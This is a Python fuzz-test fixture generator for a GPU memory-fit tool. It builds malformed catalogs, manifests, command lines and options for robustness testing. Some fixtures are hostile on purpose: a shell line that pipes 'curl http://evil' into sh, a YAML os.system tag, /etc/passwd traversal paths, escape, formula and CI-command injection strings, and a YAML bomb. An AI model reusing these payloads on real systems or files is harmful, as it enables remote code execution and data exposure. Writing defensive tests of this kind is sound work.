"""Catalogs, boxes, manifests, launch lines, names, patterns and options that are wrong in one place."""
import json

FIT = ["--model", "qwen3-0.6b", "--gpu", "rtx-4090", "--ctx", "4k"]
HOSTILE = "x\x1b[31m\n::error::y \u202e<b>]]>&'\" =cmd|' /C'!A0 `@a`"


def dumped(value):
    return value if isinstance(value, bytes) else json.dumps(value).encode()


def catalogs():
    m = {"id": "mine", "model_type": "llama", "hidden_size": 256, "num_hidden_layers": 2, "num_attention_heads": 4,
         "intermediate_size": 512, "vocab_size": 1000, "max_position_embeddings": 4096}
    g = {"id": "card", "name": "Card", "class": "geforce", "total_mib": 8192}
    models = lambda *entries: {"models": list(entries)}
    yield "good", models(m)
    yield "model_without_id", models({k: v for k, v in m.items() if k != "id"})
    yield "id_a_number", models({**m, "id": 5})
    yield "id_empty", models({**m, "id": ""})
    yield "id_any", models({**m, "id": "any"})
    yield "id_auto", models({**m, "id": "auto"})
    yield "id_with_a_comma", models({**m, "id": "a,b"})
    yield "id_of_an_option", models({**m, "id": "-x"})
    yield "id_with_a_newline", models({**m, "id": "a\nb"})
    yield "id_with_escapes", models({**m, "id": "a\x1b[31m"})
    yield "id_a_workflow_command", models({**m, "id": "::error file=x::pwned"})
    yield "id_a_formula", models({**m, "id": "=1+1"})
    yield "id_upwards", models({**m, "id": "../x"})
    yield "id_twice", models(m, m)
    yield "alias_a_number", models({**m, "aliases": [5]})
    yield "alias_of_another", models(m, {**m, "id": "other", "aliases": ["mine"]})
    yield "type_unknown", models({**m, "model_type": "frobnicator"})
    yield "layers_zero", models({**m, "num_hidden_layers": 0})
    yield "layers_2_31", models({**m, "num_hidden_layers": 2**31})
    yield "hidden_size_a_text", models({**m, "hidden_size": "256"})
    yield "heads_do_not_divide", models({**m, "num_attention_heads": 3})
    yield "key_unknown", models({**m, "frobs": 1})
    yield "models_an_object", {"models": {}}
    yield "entry_a_text", models("mine")
    yield "like_itself", models({"id": "mine", "like": "mine"})
    yield "like_nothing", models({"id": "mine", "like": "nothing-there"})
    yield "like_in_a_circle", models({"id": "mine", "like": "other"}, {"id": "other", "like": "mine"})
    yield "top_key_unknown", {"model": [m]}
    yield "a_list", [m]
    yield "empty_object", {}
    yield "empty", b""
    yield "cut", dumped(models(m))[:-4]
    yield "key_twice", b'{"models": [], "models": []}'
    yield "deep", b'{"models": ' + b"[" * 5000
    yield "gpu_without_memory", {"gpus": [{k: v for k, v in g.items() if k != "total_mib"}]}
    yield "gpu_memory_zero", {"gpus": [{**g, "total_mib": 0}]}
    yield "gpu_memory_negative", {"gpus": [{**g, "total_mib": -1}]}
    yield "gpu_memory_2_53", {"gpus": [{**g, "total_mib": 2**53}]}
    yield "gpu_memory_a_text", {"gpus": [{**g, "total_mib": "8192"}]}
    yield "gpu_class_unknown", {"gpus": [{**g, "class": "nothing"}]}
    yield "gpu_bandwidth_1e400", b'{"gpus": [{"id": "card", "name": "Card", "class": "geforce", "total_mib": 8192, "bandwidth_gbs": 1e400}]}'
    yield "node_of_an_unknown_gpu", {"nodes": [{"id": "n", "name": "N", "gpu": "nothing", "count": 2}]}
    yield "node_of_no_gpus", {"nodes": [{"id": "n", "name": "N", "gpu": "h100", "count": 0}]}
    yield "ollama_tags", models({**m, "ollama": {"tags": ["mine:7b"]}, "hf_repo": "owner/mine"})
    yield "ollama_tag_empty", models({**m, "ollama": {"tags": [""]}})
    yield "ollama_a_tag_with_a_space", models({**m, "ollama": {"tag": "a b"}})
    yield "checkpoints", models({**m, "checkpoints": [{"repo": "owner/mine-AWQ", "quantization_config": {"quant_method": "awq", "bits": 4}}]})
    yield "checkpoint_without_a_name", models({**m, "checkpoints": [{"repo": ""}]})
    yield "gpu_profile_without_a_size", {"gpus": [{**g, "profiles": {"1g": {}}}]}
    yield "gpu_reserved_two_numbers", {"gpus": [{**g, "reserved_mib": [1, 2]}]}
    yield "gpu_kind_unknown", {"gpus": [{**g, "kind": "quantum"}]}
    yield "node_without_a_count", {"nodes": [{"id": "n", "name": "N", "gpu": "h100"}]}
    yield "node_of_two_kinds", {"nodes": [{"id": "n", "name": "N", "gpu": "h100+l4", "count": 2}]}
    yield "node_called_as_a_gpu", {"nodes": [{"id": "h100", "name": "N", "gpu": "h100", "count": 2}]}
    yield "workload_with_a_variant_without_id", {"workloads": [{"id": "w", "name": "W", "variants": [{"name": "x"}]}]}
    yield "workload_without_sizes", {"workloads": [{"id": "w", "name": "W"}]}


def boxes():
    w = {"size": "1GB"}
    box = lambda *workloads, **more: {"gpu": "gb10", "workloads": list(workloads) or [w], **more}
    yield "good", box()
    for name, value in {"nothing": {}, "negative": "-1GB", "no_unit": "12", "a_fraction_of_nothing": ".GB", "1e400": "1e400GB",
                        "beyond_8_pib": "5000000TiB", "nan": "nanGB", "a_number": 12, "falling": ["3GB", "2GB", "1GB"],
                        "four": ["1GB"] * 4, "null": None}.items():
        yield "size_" + name, box({"size": value})
    for name, value in {"zero": 0, "negative": -5, "fraction": 1.5, "2_63": 2**63, "1e99": 1e99, "text": "lots", "list": [1]}.items():
        yield "ctx_" + name, box({"model": "qwen3-0.6b", "ctx": value})
        yield "seqs_" + name, box({"model": "qwen3-0.6b", "ctx": 4096, "seqs": value})
    yield "two_kinds", box({"model": "qwen3-0.6b", "size": "1GB"})
    yield "no_kind", box({"name": "a"})
    yield "workloads_an_object", {"gpu": "gb10", "workloads": {}}
    yield "workloads_none", {"gpu": "gb10", "workloads": []}
    yield "gpu_a_number", {"gpu": 5, "workloads": [w]}
    yield "gpu_none", {"gpu": [], "workloads": [w]}
    yield "gpu_of_many", {"gpu": ["l4"] * 17, "workloads": [w]}
    yield "name_hostile", box({"name": HOSTILE, "size": "900GB"})
    yield "scenario_of_nothing", box({"name": "a", **w}, scenarios=[{"name": "s", "workloads": ["b"]}])
    yield "scenario_twice", box({"name": "a", **w}, scenarios=[{"name": "s", "workloads": ["a"]}] * 2)
    yield "headroom_200_percent", box(headroom="200%")
    yield "headroom_negative", box(headroom="-1GiB")
    yield "used_beyond_all", box(used="500GiB")
    yield "system_beyond_all", box(system="500GiB")
    yield "key_unknown", box(worklods=[])
    yield "many_workloads", box(*[{"name": "w%d" % i, "size": "1MB"} for i in range(5000)])
    yield "profiles_not_text", box({"size": "1GB", "profiles": [1]})
    yield "limit_below_size", box({"size": "2GB", "limit": "1GB"})
    yield "workload_null", box(None)
    q = {"model": "qwen3-0.6b", "ctx": 4096}
    yield "size_beyond_1_pib", box({"size": "2000TiB"})
    yield "model_a_number", box({"model": 5})
    yield "model_empty", box({"model": ""})
    yield "method_a_list", box({**q, "method": ["lora"]})
    yield "profiles_a_text", box({**w, "profiles": "a"})
    yield "profiles_of_many", box({**w, "profiles": ["p%d" % i for i in range(40)]})
    yield "profiles_of_many_in_all", box(*[{"name": "w%d" % i, **w, "profiles": ["p%d" % i, "q%d" % i, "r%d" % i]} for i in range(30)])
    yield "workload_on_many_gpus", box({**q, "gpu": list(range(17))})
    yield "gpu_and_gpus", box({**q, "gpu": [0], "gpus": 1})
    yield "pipeline_without_a_stage", box({**w, "pipeline": "p"})
    yield "keep_alive_of_what_is_always_there", box({**w, "keep_alive": "5m"})
    yield "name_of_200", box({"name": "n" * 200, **w})
    yield "scenario_of_a_number", box({"name": "a", **w}, scenarios=[{"name": "s", "workloads": [5]}])
    yield "scenario_of_one_twice", box({"name": "a", **w}, scenarios=[{"name": "s", "workloads": ["a", "a"]}])
    yield "scenario_without_a_name", box({"name": "a", **w}, scenarios=[{"workloads": ["a"]}])
    yield "scenarios_of_many", box({"name": "a", **w}, scenarios=[{"name": "s%d" % i, "workloads": ["a"]} for i in range(200)])
    yield "requests_of_many", box({"name": "a", **q, "engine": "ollama"}, ollama={"requests": ["a"] * 200})
    yield "requests_a_text", box({"name": "a", **q, "engine": "ollama"}, ollama={"requests": "a"})
    yield "requests_of_what_ollama_does_not_run", box({"name": "a", **w}, ollama={"requests": ["a"]})
    yield "a_list", []
    yield "cut", dumped(box())[:-3]
    yield "nul", b'{"gpu": "gb10\0", "workloads": []}'
    yield "draft_of_a_command_counts", {"gpu": "rtx-4090", "host_memory": "64GiB", "workloads": [
        {"name": "a", "command": "llama-server -m qwen3-30b-a3b -c 32768 -md qwen3-4b", "quant": "q4_k_m"}]}
    yield "experts_of_a_command_in_main_memory_count", {"gpu": "rtx-4090", "host_memory": "8GiB", "workloads": [
        {"name": "a", "command": "llama-server -m qwen3-30b-a3b -c 32768 -ot exps=CPU", "quant": "q4_k_m"}]}
    for option in ("-md nothing-there", "-ot exps", "-ot '((((a{255}){255}){255}){255})=CPU'", "-ts 1,x", "-c lots", "--foo 1", "-ngl -7",
                   "-np 0", "-c", "-ctk q99", "--parallel 99999999999999999999"):
        yield "command_with_" + option, box({"name": "a", "quant": "q4_k_m", "command": "llama-server -m qwen3-0.6b " + option})
    for option in ("--max-model-len -5", "--tensor-parallel-size 0", "--gpu-memory-utilization 2", "--kv-cache-dtype q99", "--foo 1",
                   "--speculative-config {", "--speculative-config []", "--block-size 3", "--max-num-seqs 0"):
        yield "command_of_vllm_with_" + option, box({"name": "a", "command": "vllm serve Qwen/Qwen3-0.6B " + option})


def manifests():
    y = lambda s: s.encode()
    pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - {name: c, image: vllm/vllm-openai, args: %s}\n"
    yield "compose.yaml", "good", y("services:\n  a:\n    image: vllm/vllm-openai\n    command: --model Qwen/Qwen3-0.6B\n")
    yield "compose.yaml", "services_a_list", y("services: [a]\n")
    yield "compose.yaml", "service_a_text", y("services: {a: b}\n")
    yield "compose.yaml", "command_a_number", y("services:\n  a: {image: vllm/vllm-openai, command: 5}\n")
    yield "compose.yaml", "quote_open", y("services:\n  a: {image: vllm/vllm-openai, command: \"--model 'x\"}\n")
    yield "compose.yaml", "extends_in_a_circle", y("services:\n  a: {extends: b, image: x}\n  b: {extends: {service: a}}\n")
    yield "compose.yaml", "extends_a_file_outside", y("services:\n  a: {image: x, extends: {file: /etc/passwd, service: b}}\n")
    yield "compose.yaml", "extends_upwards", y("services:\n  a: {image: x, extends: {file: ../../x.yaml, service: b}}\n")
    yield "compose.yaml", "variable_not_set", y("services:\n  a: {image: vllm/vllm-openai, command: '--model Qwen/Qwen3-0.6B --max-model-len $LEN'}\n")
    yield "compose.yaml", "variable_of_the_model_not_set", y("services:\n  a: {image: vllm/vllm-openai, command: '--model $MODEL --max-model-len 4096'}\n")
    yield "compose.yaml", "variable_open", y("services:\n  a: {image: vllm/vllm-openai, command: '--model ${X'}\n")
    yield "compose.yaml", "variable_that_must_be", y("services:\n  a: {image: vllm/vllm-openai, command: '--model ${X:?no}'}\n")
    yield "compose.yaml", "count_negative", y("services:\n  a: {image: vllm/vllm-openai, command: '--model Qwen/Qwen3-0.6B', gpus: [{count: -1}]}\n")
    yield "compose.yaml", "count_above_all_devices", y("services:\n  a: {image: vllm/vllm-openai, command: '--model Qwen/Qwen3-0.6B', gpus: [{count: 129}]}\n")
    yield "compose.yaml", "count_huge", y("services:\n  a: {image: vllm/vllm-openai, command: '--model Qwen/Qwen3-0.6B', gpus: [{count: 99999999999999999999}]}\n")
    yield "pod.yaml", "pod", y(pod % "[--model, Qwen/Qwen3-0.6B]")
    yield "pod.yaml", "pod_args_an_object", y(pod % "{a: b}")
    yield "pod.yaml", "pod_args_nested", y(pod % "[[a]]")
    yield "pod.yaml", "pod_containers_a_text", y("apiVersion: v1\nkind: Pod\nspec: {containers: x}\n")
    yield "pod.yaml", "pod_without_spec", y("apiVersion: v1\nkind: Pod\n")
    yield "pod.yaml", "pod_of_hostile_name", y("apiVersion: v1\nkind: Pod\nmetadata: {name: \"%s\"}\nspec:\n  containers:\n  - {name: c, image: vllm/vllm-openai, args: [--model, Qwen/Qwen3-0.6B]}\n" % HOSTILE.replace('"', '\\"').replace("\n", "\\n").replace("\x1b", "\\e"))
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n"
    for before, name in zip("abcdefghijkl", "bcdefghijklm"):
        bomb += "%s: &%s [%s]\n" % (name, name, ",".join(["*" + before] * 9))
    yield "x.yaml", "yaml_bomb", y(bomb + "kind: Pod\napiVersion: v1\n")
    for n in (4096, 4097):
        yield "x.yaml", "yaml_anchors_%d" % n, y("x:\n" + "".join("- &a%d v\n" % i for i in range(n)) + "y: *a0\n")
    yield "x.yaml", "yaml_alias_of_itself", y("a: &a\n  b: *a\n")
    yield "x.yaml", "yaml_alias_of_nothing", y("services: *nothing\n")
    yield "x.yaml", "yaml_merge_of_a_text", y("services:\n  a: {<<: x}\n")
    yield "x.yaml", "yaml_merges_of_large_maps", y("x: &x\n" + "".join("  k%d: v\n" % i for i in range(3000)) + "a: {<<: [" + ", ".join(400 * ["*x"]) + "]}\n")
    yield "x.yaml", "yaml_aliases_behind_many_anchors", y("x: [" + ", ".join("&a%d 1" % i for i in range(4096)) + "]\ny: [" + ", ".join(20000 * ["*a0"]) + "]\n")
    yield "x.yaml", "yaml_merge_in_a_circle", y("a: &a {<<: *a}\n")
    yield "x.yaml", "yaml_deep", y("[" * 2000)
    yield "x.yaml", "yaml_deep_by_dashes", y("- " * 2000 + "a\n")
    yield "x.yaml", "yaml_key_twice", y("services: {a: {image: x}, a: {image: y}}\n")
    yield "x.yaml", "yaml_key_a_list", y("? [a, b]\n: c\n")
    yield "x.yaml", "yaml_tabs", y("services:\n\ta: b\n")
    yield "x.yaml", "yaml_open_quote", y("services: 'a\n")
    yield "x.yaml", "yaml_open_brace", y("services: {a: {\n")
    yield "x.yaml", "yaml_nul", b"services: {a: \0}\n"
    yield "x.yaml", "yaml_not_utf8", b"services: {a: \xff\xfe}\n"
    yield "x.yaml", "yaml_of_16_bits", "services: {a: {image: x}}\n".encode("utf-16")
    yield "x.yaml", "yaml_tag", y("services: !!python/object/apply:os.system [id]\n")
    yield "x.yaml", "yaml_many_documents", y("---\na: 1\n" * 3000)
    yield "x.yaml", "yaml_directive_unknown", y("%FOO bar\n---\na: 1\n")
    yield "x.yaml", "yaml_empty", b""
    yield "x.yaml", "yaml_only_a_comment", y("# nothing\n")
    yield "x.yaml", "yaml_long_line", y("services:\n  a:\n    image: vllm/vllm-openai\n    command: --model " + "m" * 1000000 + "\n")
    own = lambda **d: y(json.dumps({"vramfit": 1, "deployments": [{"name": "d", "model": "qwen3-0.6b", "gpu": "l4", **d}]}))
    yield "v.json", "own", own()
    yield "v.json", "own_version_2", y('{"vramfit": 2, "deployments": []}')
    yield "v.json", "own_version_a_text", y('{"vramfit": "1", "deployments": []}')
    yield "v.json", "own_deployments_an_object", y('{"vramfit": 1, "deployments": {}}')
    yield "v.json", "own_deployment_a_text", y('{"vramfit": 1, "deployments": ["x"]}')
    yield "v.json", "own_key_unknown", own(contxt=4096)
    yield "v.json", "own_ctx_negative", own(ctx=-1)
    yield "v.json", "own_ctx_1e99", own(ctx=1e99)
    yield "v.json", "own_ctx_a_list", own(ctx=[4096])
    yield "v.json", "own_deployments_a_text", y('{"vramfit": 1, "deployments": "x"}')
    yield "v.json", "own_gpu_unknown", own(gpu="l5")
    yield "v.json", "own_model_unknown", own(model="nothing-there")
    yield "v.json", "own_expects_unknown", own(expect={"x": 1})
    yield "v.json", "own_expects_a_list", own(expect=[])
    yield "v.json", "own_quant_unknown", own(quant="q99")
    yield "v.json", "own_name_hostile", own(name=HOSTILE)
    yield "v.json", "own_model_hostile", own(model=HOSTILE)
    yield "v.json", "json_cut", own()[:-5]
    yield "v.json", "json_key_twice", y('{"vramfit": 1, "vramfit": 1, "deployments": []}')
    yield "v.json", "json_deep", y('{"vramfit": ' + "[" * 100000)
    yield "Modelfile", "modelfile", y("FROM qwen3:0.6b\nPARAMETER num_ctx 4096\n")
    yield "Modelfile", "modelfile_without_from", y("PARAMETER num_ctx 4096\n")
    yield "Modelfile", "modelfile_ctx_negative", y("FROM qwen3:0.6b\nPARAMETER num_ctx -4096\n")
    yield "Modelfile", "modelfile_ctx_a_text", y("FROM qwen3:0.6b\nPARAMETER num_ctx lots\n")
    yield "Modelfile", "modelfile_ctx_2_64", y("FROM qwen3:0.6b\nPARAMETER num_ctx 18446744073709551616\n")
    yield "Modelfile", "modelfile_text_open", y('FROM qwen3:0.6b\nSYSTEM """never ends\n')
    yield "v.json", "a_quant_of_an_engine", y('{"vramfit": 1, "deployments": [{"model": "qwen3-4b", "quant": "q4", "gpu": "l4", "engine": "llama.cpp", "ctx": "4k"}]}')
    yield "v.json", "blocks_of_three", y('{"vramfit": 1, "deployments": [{"model": "qwen3-4b", "block_size": 3, "gpu": "l4", "engine": "vllm"}]}')
    yield "v.json", "json_deep_within", y('{"vramfit": 1, "deployments": ' + '{"a":' * 70 + "1" + "}" * 70 + "}")
    yield "v.json", "json_of_a_million_values", y('{"vramfit": 1, "deployments": [' + "1," * 1000000 + "1]}")
    yield "v.yaml", "yaml_of_a_million_values", y("vramfit: 1\ndeployments:\n" + "- 1\n" * 1000000)
    yield "v.yaml", "yaml_merges_of_a_list", y("vramfit: 1\nx: &x {gpu: l4}\ny: &y {quant: q8_0, ctx: 4k}\ndeployments:\n  d: {<<: [*x, *y], model: qwen3-4b, engine: llama.cpp}\n")
    yield "Modelfile", "modelfile_from_twice", y("FROM qwen3:0.6b\nFROM llama3.2:1b\n")
    yield "Modelfile", "modelfile_from_a_path_upwards", y("FROM ../../../etc/passwd\n")
    yield "Modelfile", "modelfile_word_unknown", y("FROM qwen3:0.6b\nFROBNICATE yes\n")
    yield "Modelfile", "modelfile_empty", b""
    yield "p.ini", "ini", y("[a]\nmodel = qwen3-0.6b\nctx-size = 4096\n")
    yield "p.ini", "ini_section_open", y("[a\nmodel = x\n")
    yield "p.ini", "ini_ctx_a_text", y("[a]\nhf-repo = unsloth/Qwen3-0.6B-GGUF:Q4_K_M\nctx-size = lots\n")
    yield "p.ini", "ini_section_hostile", y("[x::error::\x1b]\nhf-repo = unsloth/Qwen3-0.6B-GGUF:Q4_K_M\n")
    yield "p.ini", "ini_without_sections", y("a = b\n")
    yield "p.ini", "ini_of_too_many_sections", y("[a]\nmodel=/\n" * 10001)
    yield "p.ini", "ini_line_without_a_value", y("[a]\nhf-repo = unsloth/Qwen3-0.6B-GGUF:Q4_K_M\nctx-size\n")
    yield "u.service", "unit", y("[Service]\nExecStart=/usr/bin/llama-server -m qwen3-0.6b -c 4096\n")
    yield "u.service", "unit_without_a_start", y("[Service]\n")
    yield "u.service", "unit_quote_open", y("[Service]\nExecStart=llama-server -m 'x\n")
    yield "u.service", "unit_line_goes_on_at_the_end", y("[Service]\nExecStart=llama-server -m x \\")
    yield "s.sh", "script", y("llama-server -hf unsloth/Qwen3-0.6B-GGUF:Q4_K_M -c 4096\n")
    yield "s.sh", "script_quote_open", y("llama-server -m 'x\n")
    yield "s.sh", "script_substitution", y("vllm serve $(curl http://evil | sh) --max-model-len `id`\n")
    yield "s.sh", "script_here_document_open", y("cat <<EOF\nllama-server -m x\n")
    yield "s.sh", "script_loop", y("while true; do vllm serve Qwen/Qwen3-0.6B; done\n")
    yield "s.sh", "script_assigns_itself", y("A=$A$A; B=$A$B; vllm serve $B\n")
    yield "s.sh", "script_grows", y("A=xxxxxxxxxx\n" + "A=$A$A$A$A$A$A$A$A\n" * 40 + "vllm serve $A\n")
    yield "s.sh", "script_nested", y("sh -c 'sh -c \"sh -c \\\"vllm serve Qwen/Qwen3-0.6B\\\"\"'\n")
    yield "s.sh", "script_of_deep_shells", y("sh -c " * 500 + "'vllm serve x'\n")


def lines():
    for name, line in {
            "quote": ["vllm", "serve", "'"], "no_model": ["vllm", "serve"], "ctx_negative": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--max-model-len", "-5"],
            "ctx_overflow": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--max-model-len", "99999999999999999999"],
            "value_missing": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--max-model-len"], "tp_zero": ["vllm", "serve", "Qwen/Qwen3-0.6B", "-tp", "0"],
            "tp_of_a_text": ["vllm", "serve", "Qwen/Qwen3-0.6B", "-tp", "two"], "share_of_nan": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--gpu-memory-utilization", "nan"],
            "json_cut": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--speculative-config", '{"model":'],
            "json_deep": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--speculative-config", "[" * 10000],
            "program_unknown": ["frobnicate", "Qwen/Qwen3-0.6B"], "nothing": [], "empty_word": [""],
            "hostile_model": ["vllm", "serve", HOSTILE], "hostile_option": ["vllm", "serve", "Qwen/Qwen3-0.6B", "--" + HOSTILE],
            "llama_layers_a_text": ["llama-server", "-m", "qwen3-0.6b", "-ngl", "lots"], "llama_model_missing": ["llama-server", "-m"],
            "llama_kv_unknown": ["llama-server", "-m", "qwen3-0.6b", "-ctk", "q99"], "llama_split_of_texts": ["llama-server", "-m", "qwen3-0.6b", "-ts", "a,b"],
            "llama_override_bomb": ["llama-server", "-m", "qwen3-0.6b", "-ot", "((((a{255}){255}){255}){255})=CPU"],
            "sglang_without_model": ["python", "-m", "sglang.launch_server"], "sglang_share_of_7": ["python", "-m", "sglang.launch_server", "--model-path", "Qwen/Qwen3-0.6B", "--mem-fraction-static", "7"],
            "trtllm_batch_zero": ["trtllm-serve", "Qwen/Qwen3-0.6B", "--max_batch_size", "0"], "ollama_without_model": ["ollama", "run"],
            "shell_around": ["sh", "-c", "vllm serve 'x"], "docker_around_nothing": ["docker", "run"], "env_around_nothing": ["env", "A=1"],
            "ten_thousand_words": ["vllm", "serve", "Qwen/Qwen3-0.6B"] + ["--foo"] * 10000, "word_of_100_kb": ["vllm", "serve", "x" * 100000]}.items():
        yield name, ["--gpu", "l4", "--"] + line


def options():
    for o, values in {
            "--ctx": ("0", "-1", "lots", "1e9", "99999999999999999999", "4k4", "", "0x10", "1.5"),
            "--seqs": ("0", "-1", "x", "99999999999", ""), "--kv": ("q99", "", "f16,f16"), "--quant": ("q99", "", "q4+", "+imatrix", HOSTILE),
            "--gpu": ("", "l5", "l4x0", "l4x99", "l4x-1", "l4+", "+l4", "h100:9g.99gb", "l4@", "24", "24GB", HOSTILE, "x" * 5000, "l4," * 40),
            "--memory": ("24", "-1GiB", "1e400GiB", "99999999TiB", "nan", "GiB", "0GiB"), "--engine": ("vlllm", "", "vllm@", "vllm@x", "vllm@99999999999", "llama.cpp@b0"),
            "--override-tensor": ("exps", "=CPU", "(=CPU", "[=CPU", "*=CPU", "a{99999}=CPU", "((((a{255}){255}){255}){255})=CPU", "(" * 5000 + "=CPU", "a=", "\\=CPU",
                                  "exps=CUDA9", ",".join(["x=CPU"] * 65)),
            "--tensor-split": ("x", "1,,2", "0,0", "-1,2", "nan,1", "1e400,1"), "--ngl": ("-2", "x", "99999999999"), "--used": ("2", "-1GiB", "500GiB"),
            "--headroom": ("200%", "-1%", "nan%", "x"), "--tp": ("0", "-1", "3x"), "--model": ("", "nothing-there", HOSTILE, "x" * 5000, "..", "/dev/null", "/dev/zero", "qwen3-0.6b:q99",
                                                                                             "owner/name:..", "%00", "qwen3:8b:9b")}.items():
        for v in values:
            base = [w for i, w in enumerate(FIT) if not (w == o or (i > 0 and FIT[i - 1] == o))]
            shown = v if len(v) < 40 else v[:12] + "_and_on"
            yield "%s_%s" % (o[2:], shown.encode("unicode_escape").decode()), base + [o, v]
    train = ["train", "--model", "qwen3-0.6b", "--gpu", "rtx-4090"]
    for o, values in {"--lora-rank": ("0", "-1", "x", "99999999999"), "--method": ("qlroa", ""), "--optimizer": ("adam", ""), "--lora-targets": ("q,z", ",", ""),
                      "--seq-len": ("0", "x", "99999999999"), "--micro-batch": ("0", "-1", "99999999999"), "--pp": ("0", "64"), "--tp": ("0", "3"), "--parallel": ("zero9",),
                      "--precision": ("bf17",), "--checkpointing": ("perhaps",), "--loss": ("none",), "--objective": ("x",), "--offload": ("sky",)}.items():
        for v in values:
            yield "train_%s_%s" % (o[2:], v), train + [o, v]


def cases():
    for name, data in catalogs():
        yield "catalog/" + name, {"c/models/x.json": dumped(data)}, ["--catalog", "c/models/x.json"] + FIT
    yield "catalog/folder_missing", {}, ["--catalog", "nowhere"] + FIT
    yield "catalog/folder_of_other_files", {"c/x.txt": b"x"}, ["--catalog", "c"] + FIT
    yield "catalog/folder", {"c/models/x.json": dumped({"models": []})}, ["--catalog", "c"] + FIT
    for name, data in {"a_list": b"- a\n", "quotes_and_nothing": b"gpu: gb10\nworkloads:\n- {name: 'a \"b\" \\', size: 1GB}\n- {name: ~, size: 1GB}\n",
                       "deep": b"gpu: gb10\nx: " + b"[" * 63 + b"]" * 63 + b"\n", "nul": b"gpu: gb10\0\n"}.items():
        yield "box/yaml_" + name, {"box.yaml": data}, ["place", "box.yaml"]
    for name, data in boxes():
        yield "box/" + name.replace(" ", "_"), {"box.json": dumped(data)}, ["place", "box.json"]
    for path, name, data in manifests():
        yield "manifest/" + name, {path: data}, ["check", "--gpu", "l4", path]
    for name, arguments in lines():
        yield "line/" + name, {}, arguments
    for name, arguments in options():
        yield "option/" + name, {}, arguments
    yield "system/sysroot_missing", {}, ["detect", "--sysroot", "/nonexistent"]
    yield "system/plot_over_a_file_that_is_not_its_own", {"m.gguf": b"precious"}, FIT + ["--plot", "m.gguf"]
    yield "system/model_in_a_file_as_folder", {"f": b"x"}, ["--model", "f/m.gguf", "--gpu", "l4"]
